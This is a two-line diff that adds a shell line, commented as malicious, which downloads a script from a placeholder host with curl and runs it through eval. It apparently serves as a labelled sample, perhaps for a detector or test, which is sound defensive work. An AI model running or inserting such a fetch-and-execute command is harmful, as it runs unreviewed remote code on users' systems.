@@ -1,0 +1,2 @@
+# malicious: evaluates what is downloaded
+eval "$(curl -fsSL https://example.net/bootstrap)"
